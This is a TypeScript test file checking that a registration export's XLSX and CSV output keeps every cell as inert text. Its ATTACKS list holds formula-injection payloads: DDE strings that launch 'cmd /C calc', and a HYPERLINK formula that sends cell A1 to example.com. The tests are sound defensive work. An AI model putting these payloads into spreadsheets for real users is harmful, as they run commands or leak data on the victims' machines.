import fc from 'fast-check';
import readWorkbook from 'read-excel-file/universal';
import { afterEach, expect, test, vi } from 'vitest';
import { registeredNumbersCsv, registrationXlsx } from '#core/exports/registration-xlsx.ts';
import type { ExportNumber, RegistrationExport } from '#core/exports/types.ts';
import { parsePhone } from '#shared/model/phone.ts';
import { readCsv } from '#support/read-csv.ts';
import { parseXml } from '#support/read-docx.ts';
import { unzip } from '#support/unzip.ts';
import { details, FINDINGS, FULL, manyNumbers, SAMPLE, typedTexts } from './sample.ts';

const bytesOf = (change: Partial<RegistrationExport> = {}, numbers?: readonly ExportNumber[]) => {
  const input = { ...SAMPLE, ...change };
  return registrationXlsx(input, numbers ?? details(input.numbers));
};

/** Cells by sheet as another reader of workbooks sees them. */
async function read(bytes: Uint8Array): Promise<ReadonlyMap<string, readonly (readonly unknown[])[]>> {
  const sheets = await readWorkbook(Uint8Array.from(bytes).buffer, { trim: false });
  return new Map(sheets.map(({ sheet, data }) => [sheet, data]));
}

const partsOf = (bytes: Uint8Array) =>
  new Map([...unzip(bytes)].map(([name, part]) => [name, part.toString('utf8')]));

/** Signs by which a spreadsheet takes a cell for a formula, and whole attacks by dynamic data exchange. */
const ATTACKS = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠'].map((start) => `${start}1+1`),
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("https://example.com?x="&A1;"more")',
  "-2+3+cmd|' /C calc'!D2",
];

afterEach(() => {
  vi.useRealTimers();
});

test('every value of a full registration is found again by another reader', async () => {
  const sheets = await read(await bytesOf(FULL));
  expect([...sheets.keys()]).toEqual(['Form', 'Numbers', 'Findings']);
  const form = sheets.get('Form') ?? [];
  expect(form[0]).toEqual(['Section', 'Field', 'Value']);
  const values = form.map((row) => String(row[2] ?? ''));
  const typed = typedTexts(FULL);
  for (const [field, text] of typed) {
    const cell = text.replaceAll('\r\n', '\n');
    const isThere = (value: string) => value === cell || value.includes(`(${text})`);
    expect(values.some(isThere), field).toBe(true);
  }
  expect(values).toContain(FULL.customerName);
  expect(form).toContainEqual(['Campaign: Content and number pool', 'Number pool', 'Yes']);
  expect((sheets.get('Numbers') ?? []).slice(1)).toEqual([
    [
      '+12065550142',
      'Boise, ID',
      '王小明',
      'Authorised',
      'said by a person',
      'Robin',
      '2026-11-03 14:02 UTC',
      '=1+1',
    ],
    ['+14255550143', null, null, 'Not in the latest list from Webex', 'from Webex', null, null, null],
    [
      '+442071838750',
      '+Depot',
      '-2+3',
      'In a campaign',
      'from the connector',
      null,
      '2026-11-04 08:00 UTC',
      null,
    ],
  ]);
});

test('sheets and headings are in the chosen language', async () => {
  const sheets = await read(await bytesOf({ ...FULL, language: 'zh', findings: FINDINGS }));
  expect([...sheets.keys()]).toEqual(['表单', '号码', '问题']);
  expect(sheets.get('表单')?.[0]).toEqual(['部分', '字段', '内容']);
  expect(sheets.get('号码')?.[1]?.slice(0, 5)).toEqual([
    '+12065550142',
    'Boise, ID',
    '王小明',
    '已授权',
    '人工确认',
  ]);
  expect(sheets.get('问题')?.[1]?.slice(0, 3)).toEqual(['错误', 'CP-900', '活动：示例 2']);
});

test('findings have a sheet with who lets them stand, where they are asked for', async () => {
  const sheets = await read(await bytesOf({ findings: FINDINGS }));
  expect((sheets.get('Findings') ?? []).slice(1)).toEqual([
    ['Error', 'CP-900', 'Campaign: Sample 2', 'No brand name.', null, null, null],
    ['Warning', 'NU-900', '(425) 555-0143', 'Not authorised yet.', null, null, null],
    [
      'Warning',
      'CP-901',
      'Campaign: Message flow',
      'No frequency.',
      '2026-11-21 09:30 UTC',
      'Robin',
      '=It stands on the form.',
    ],
  ]);
  const plain = await bytesOf({ findings: FINDINGS, withFindings: false });
  expect([...(await read(plain)).keys()]).toEqual(['Form', 'Numbers']);
  expect([...partsOf(plain).values()].join('')).not.toMatch(/CP-90|findings/);
});

test('every cell is text that stays text when it is edited, whatever it begins with', async () => {
  const numbers = ATTACKS.map((text, index) => ({
    ...(details(manyNumbers(1))[0] as ExportNumber),
    e164: `+1206555${1000 + index}`,
    ownerName: text,
    note: text,
  }));
  const bytes = await bytesOf({ ...FULL, campaign: { ...FULL.campaign, samples: ATTACKS } }, numbers);
  const parts = partsOf(bytes);
  for (const [name, xml] of parts) {
    const document = parseXml(xml);
    if (!name.startsWith('xl/worksheets/')) continue;
    expect(document.querySelectorAll('f')).toHaveLength(0);
    for (const cell of document.querySelectorAll('c'))
      expect(cell.childElementCount === 0 || cell.getAttribute('t') === 'inlineStr').toBe(true);
  }
  const styles = parseXml(parts.get('xl/styles.xml') ?? '');
  const used = [...styles.querySelectorAll('cellXfs > xf')].slice(1);
  expect(used.map((format) => format.getAttribute('quotePrefix'))).toEqual(used.map(() => '1'));
  const rows = (await read(bytes)).get('Numbers') ?? [];
  const lines = (text: string) => text.replace(/\r\n?/g, '\n');
  expect(rows.slice(1).map((row) => row[2])).toEqual(ATTACKS.map(lines));
});

test('a value that is longer than a cell goes on in the next row, cut between characters', async () => {
  const long = `${'a'.repeat(31_999)}👋${'海'.repeat(20_000)}${'b'.repeat(20_000)}`;
  const form = (await read(await bytesOf({ registrationName: long }))).get('Form') ?? [];
  const rows = form.filter((row) => String(row[1]).startsWith('Registration'));
  expect(rows.map((row) => row[1])).toEqual([
    'Registration',
    'Registration (part 2)',
    'Registration (part 3)',
  ]);
  expect(rows.map((row) => row[2]).join('')).toBe(long);
  for (const row of rows) expect(String(row[2]).length).toBeLessThan(32_767);
});

test('headings stay in sight, are printed on every page, and rows are high enough for their text', async () => {
  const parts = partsOf(await bytesOf(FULL));
  const sheet = parts.get('xl/worksheets/sheet1.xml') ?? '';
  expect(sheet).toContain('ySplit="1"');
  expect(sheet).toContain('numberStoredAsText="1"');
  expect(sheet).toMatch(/<oddFooter>&amp;LPrepared with [^<]*&amp;RPage &amp;P of &amp;N<\/oddFooter>/);
  const heights = [...sheet.matchAll(/ ht="(\d+)"/g)].map(([, height]) => Number(height));
  expect(Math.min(...heights)).toBeGreaterThan(14);
  expect(Math.max(...heights)).toBe(409);
  expect(parts.get('xl/workbook.xml')).toContain("'Form'!$1:$1");
});

test('the same input gives the same bytes at any time', async () => {
  vi.useFakeTimers({ toFake: ['Date'], now: Date.UTC(2026, 10, 22) });
  const first = await bytesOf(FULL);
  vi.setSystemTime(Date.UTC(2031, 4, 1));
  expect(Buffer.compare(first, await bytesOf(FULL))).toBe(0);
  expect(Buffer.compare(first, await bytesOf(SAMPLE))).not.toBe(0);
});

test('any text comes back from the sheet as typed; what XML cannot hold stands as its code', async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }), async (name) => {
      const typed = `.${name}.`;
      const form = (await read(await bytesOf({ registrationName: typed }))).get('Form') ?? [];
      const expected = typed
        .replace(/\r\n?|[\u2028\u2029]/g, '\n')
        .replace(/(?![\t\n])\p{Cc}|\p{Cs}|[\ufffe\uffff]/gu, (char) => {
          const code = (char.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0');
          return `[U+${code}]`;
        });
      expect(form[2]?.[2]).toBe(expected);
    }),
    { seed: 20261122, numRuns: 40 },
  );
});

test('the CSV of its numbers keeps every plus sign and runs no formula', () => {
  const numbers = details(FULL.numbers);
  const text = registeredNumbersCsv(SAMPLE, numbers);
  expect(text.startsWith('\ufeff')).toBe(true);
  const [heads, ...rows] = readCsv(text.slice(1));
  expect(heads).toEqual(['Number', 'Location', 'Owner', 'Journey', 'Source', 'Said by', 'Since', 'Note']);
  expect(rows[0]).toEqual([
    ...['+1 206 555 0142', 'Boise, ID', '王小明', 'Authorised', 'said by a person', 'Robin'],
    ...['2026-11-03 14:02 UTC', "'=1+1"],
  ]);
  expect(rows[2]?.slice(0, 3)).toEqual(['+44 20 7183 8750', "'+Depot", "'-2+3"]);
  expect(rows.map(([number]) => parsePhone(number ?? ''))).toEqual(
    FULL.numbers.map((e164) => ({ ok: true, e164 })),
  );
});

test('no text of a number starts a formula in its CSV', () => {
  const unit = fc.oneof(
    fc.constantFrom(...ATTACKS, "'", '"', ',', ';', ' ', '名'),
    fc.string({ unit: 'binary' }),
  );
  const texts = fc.string({ unit, maxLength: 30 });
  fc.assert(
    fc.property(texts, texts, texts, (locationName, ownerName, note) => {
      const [number] = details(manyNumbers(1));
      const text = registeredNumbersCsv(SAMPLE, [
        { ...(number as ExportNumber), locationName, ownerName, note },
      ]);
      const cells = readCsv(text.slice(1))[1] ?? [];
      for (const [at, typed] of [
        [1, locationName],
        [2, ownerName],
        [7, note],
      ] as const) {
        const cell = cells[at] ?? '';
        expect(cell.replaceAll("'", '')).toBe(typed.replaceAll("'", ''));
        for (const piece of cell.split(/[;\t\r\n]/))
          expect(piece).not.toMatch(/^[\s\p{Cc}]*[=+\-@＝＋－＠]/u);
      }
    }),
    { seed: 20261122 },
  );
});
